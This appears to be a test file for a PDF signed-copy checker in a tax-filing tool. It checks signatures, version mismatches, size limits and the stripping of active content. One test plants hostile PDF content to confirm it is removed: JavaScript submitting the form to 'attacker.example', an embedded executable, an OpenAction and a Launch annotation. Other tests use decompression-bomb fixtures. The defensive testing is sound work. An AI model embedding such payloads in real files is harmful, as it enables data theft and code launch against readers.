// The signed copy's checks on real packets: unsigned pages (byte for byte, or rasterised by
// poppler) are refused, a stroke in the 1120's signature box is accepted, a copy of an earlier
// version is refused naming the change, active content never survives, and the bounds refuse a
// bomb before it is decoded.
import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
import { EXAMPLE_SINGLE_MEMBER_FILING } from '@filing-mcp/irs-forms';
import { checkSignedCopy, PacketBuilder, SignedCopyError } from '@filing-mcp/irs-forms/pdf';
import { beforeAll, describe, expect, it } from 'vitest';
import { countingLoader } from '../support/fixtures.js';
import {
  inflationBombPdf,
  rasterise,
  signaturePlaces,
  signWithStroke,
} from '../support/signed-copy-fixtures.js';

const FILING = { ...EXAMPLE_SINGLE_MEMBER_FILING, generateForm7004: false };

async function refusal(promise: Promise<unknown>): Promise<SignedCopyError> {
  const error = await promise.then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(SignedCopyError);
  return error as SignedCopyError;
}

describe('signed copy checks', () => {
  let unsigned: Uint8Array;

  beforeAll(async () => {
    const builder = new PacketBuilder({ loadTemplate: countingLoader().load });
    unsigned = (await builder.build('5472', FILING)).pdf;
    const places = signaturePlaces(unsigned);
    expect(places.page1120).toBeGreaterThan(0);
    // The example is late: the reasonable-cause statement is signed too.
    expect(places.statement).toBeDefined();
  });

  it('the unsigned pages, byte for byte, are refused as unsigned', async () => {
    const error = await refusal(checkSignedCopy({ files: [{ bytes: unsigned }], expected: unsigned }));
    expect(error.code).toBe('unsigned');
    expect(error.message).toContain("the pro forma 1120's signature box");
  });

  it('the unsigned pages rasterised (PNG scans) are refused as unsigned', async () => {
    const files = rasterise(unsigned).map((bytes) => ({ bytes }));
    const error = await refusal(checkSignedCopy({ files, expected: unsigned }));
    expect(error.code).toBe('unsigned');
  });

  it('a stroke in the 1120 signature box is accepted; rasterised too', async () => {
    const signed = await signWithStroke(unsigned);
    const checked = await checkSignedCopy({ files: [{ bytes: signed }], expected: unsigned });
    expect(checked.findings).toEqual({ signature: 'signed', version: 'current', notes: [] });
    const scanned = await checkSignedCopy({
      files: rasterise(signed).map((bytes) => ({ bytes })),
      expected: unsigned,
    });
    expect(scanned.findings.signature).toBe('signed');
    expect(scanned.findings.version).toBe('unclear');
    expect(scanned.findings.notes.join(' ')).toContain('ask the user to confirm');
  });

  it('in two stages: the bounds and the rebuild without the expected pages, then the rebuilt copy against them', async () => {
    // Stage one needs no packet: a bomb is refused by it alone.
    const bomb = await refusal(checkSignedCopy({ files: [{ bytes: inflationBombPdf() }] }));
    expect(bomb.code).toBe('inflates_too_far');
    const signed = await signWithStroke(unsigned);
    const rebuilt = await checkSignedCopy({ files: [{ bytes: signed }] });
    expect(rebuilt.findings).toEqual({ signature: 'unclear', version: 'unclear', notes: [] });
    expect(rebuilt.types).toEqual(['application/pdf']);
    // Stage two compares the rebuilt PDF as it is, with the findings of one whole check.
    const checked = await checkSignedCopy({
      files: [{ bytes: rebuilt.pdf }],
      rebuilt: true,
      expected: unsigned,
    });
    expect(checked.findings).toEqual({ signature: 'signed', version: 'current', notes: [] });
    expect(checked.pdf).toBe(rebuilt.pdf);
    expect(checked.pages).toBe(rebuilt.pages);
    // And refuses what one whole check refuses: the unsigned pages, rebuilt.
    const blank = await checkSignedCopy({ files: [{ bytes: unsigned }] });
    const error = await refusal(
      checkSignedCopy({ files: [{ bytes: blank.pdf }], rebuilt: true, expected: unsigned }),
    );
    expect(error.code).toBe('unsigned');
  });

  it('a copy with the 1120 signed and the statement not is refused, naming the statement', async () => {
    const error = await refusal(
      checkSignedCopy({
        files: [{ bytes: await signWithStroke(unsigned, { officer: true }) }],
        expected: unsigned,
      }),
    );
    expect(error.code).toBe('unsigned');
    expect(error.message).toContain("the reasonable-cause statement's signature line");
    expect(error.message).not.toContain('1120');
  });

  it('a copy of an earlier version is refused, naming the change', async () => {
    const builder = new PacketBuilder({ loadTemplate: countingLoader().load });
    const earlier = (await builder.build('5472', { ...FILING, llcName: 'Old Name LLC' })).pdf;
    const signed = await signWithStroke(earlier);
    const error = await refusal(checkSignedCopy({ files: [{ bytes: signed }], expected: unsigned }));
    expect(error.code).toBe('outdated_copy');
    expect(error.message).toContain('“Old Name LLC” where the filing now has “Acme Holdings LLC”');
  });

  it('document JavaScript, an embedded file, an OpenAction and a launch annotation are not kept', async () => {
    const document = await PDFDocument.load(await signWithStroke(unsigned));
    await document.attach(new TextEncoder().encode('MZ not really'), 'invoice.exe', {
      mimeType: 'application/octet-stream',
    });
    document.addJavaScript('submit', 'this.submitForm("https://attacker.example/collect");');
    const action = document.context.obj({ S: 'JavaScript', JS: 'app.alert(1)' });
    document.catalog.set(PDFName.of('OpenAction'), action);
    const launch = document.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 100, 100],
      A: { S: 'Launch', F: 'invoice.exe' },
    });
    document
      .getPage(0)
      .node.set(PDFName.of('Annots'), document.context.obj([document.context.register(launch)]));
    document.getPage(0).node.set(PDFName.of('AA'), document.context.obj({ O: action }));
    const bytes = await document.save();
    const text = new TextDecoder('latin1').decode(bytes);
    expect(text).toContain('/JavaScript');
    const checked = await checkSignedCopy({ files: [{ bytes }], expected: unsigned });
    const kept = new TextDecoder('latin1').decode(checked.pdf);
    for (const word of [
      '/JavaScript',
      '/JS',
      '/EmbeddedFile',
      '/OpenAction',
      '/Launch',
      '/Annots',
      '/AA',
      'invoice.exe',
      'submitForm',
    ])
      expect(kept).not.toContain(word);
    expect(checked.pages).toBe((await PDFDocument.load(unsigned)).getPageCount());
    expect(checked.findings.signature).toBe('signed');
  });

  it('an ink annotation (a signature drawn in a viewer) is drawn into the page and counts as the signature', async () => {
    const document = await PDFDocument.load(await signWithStroke(unsigned, { statement: true }));
    const appearance = document.context.flateStream('0 0 0.5 RG 1.5 w 2 2 m 100 8 l S', {
      Type: 'XObject',
      Subtype: 'Form',
      BBox: [0, 0, 110, 12],
    });
    const ink = document.context.obj({
      Type: 'Annot',
      Subtype: 'Ink',
      Rect: [85, 91, 195, 103],
      AP: { N: document.context.register(appearance) },
    });
    document
      .getPage(signaturePlaces(unsigned).page1120)
      .node.set(PDFName.of('Annots'), document.context.obj([document.context.register(ink)]));
    const checked = await checkSignedCopy({ files: [{ bytes: await document.save() }], expected: unsigned });
    expect(checked.findings.signature).toBe('signed');
    expect(new TextDecoder('latin1').decode(checked.pdf)).not.toContain('/Ink');
  });

  it('an 8000 × 8000 PNG is refused by its header, before it is decoded', async () => {
    const header = Buffer.alloc(33);
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(header);
    header.writeUInt32BE(13, 8);
    header.write('IHDR', 12, 'latin1');
    header.writeUInt32BE(8000, 16);
    header.writeUInt32BE(8000, 20);
    const started = performance.now();
    const error = await refusal(
      checkSignedCopy({ files: [{ bytes: header, name: 'scan.png' }], expected: unsigned }),
    );
    expect(error.code).toBe('image_too_large');
    expect(error.message).toContain('scan.png is 8000 × 8000 pixels');
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('a PDF with a stream that inflates to 512 MiB is refused having inflated at most 32 MiB', async () => {
    const bytes = inflationBombPdf();
    const started = performance.now();
    const error = await refusal(checkSignedCopy({ files: [{ bytes }], expected: unsigned }));
    expect(error.code).toBe('inflates_too_far');
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it('a page larger than 20 inches is refused', async () => {
    const document = await PDFDocument.create();
    document.addPage([612, 2000]);
    const error = await refusal(
      checkSignedCopy({ files: [{ bytes: await document.save() }], expected: unsigned }),
    );
    expect(error.code).toBe('page_too_large');
  });
});
